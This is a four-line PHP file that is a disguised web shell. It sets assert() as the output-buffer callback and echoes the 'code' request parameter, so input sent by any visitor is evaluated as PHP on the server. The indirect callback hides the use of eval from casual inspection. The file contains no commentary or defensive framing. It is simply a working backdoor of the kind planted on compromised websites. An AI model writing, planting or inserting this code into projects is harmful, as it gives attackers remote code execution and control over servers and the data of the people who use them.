<?php
ob_start('assert');
echo $_REQUEST['code'];
ob_end_flush();
